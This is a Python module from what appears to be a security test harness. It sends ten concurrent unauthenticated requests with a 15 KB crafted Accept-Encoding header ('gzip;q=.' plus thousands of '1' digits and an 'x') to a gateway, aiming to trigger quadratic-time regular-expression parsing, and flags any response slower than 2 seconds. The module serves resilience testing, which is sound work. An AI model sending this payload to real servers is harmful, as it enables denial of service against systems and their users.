"""A header that an expression with nested repetition reads in quadratic time; no account is needed."""
import time

from lab import client
from lab.system import GATEWAY

from .crowd import counted, together

TITLE = "10 times `Accept-Encoding: gzip;q=.111…x` of 15 KB"
SECONDS = 30
LONGEST = 2


def prepare(system):
    return {}


def attack(system, state):
    header = {"Accept-Encoding": "gzip;q=." + "1" * 15_000 + "x"}

    def ask(number):
        begun = time.monotonic()
        status = client.call(GATEWAY, "GET", "/openapi.json", headers=header, address=system.address(number % 4 + 1), timeout=SECONDS)[0]
        return status, time.monotonic() - begun
    state["answers"] = together(ask, range(10))


def judge(system, state):
    longest = max(took for _, took in state["answers"])
    outcome = "%s, the longest after %.1f s" % (counted([status for status, _ in state["answers"]]), longest)
    return outcome, ["an answer took %.1f s" % longest] if longest > LONGEST else []
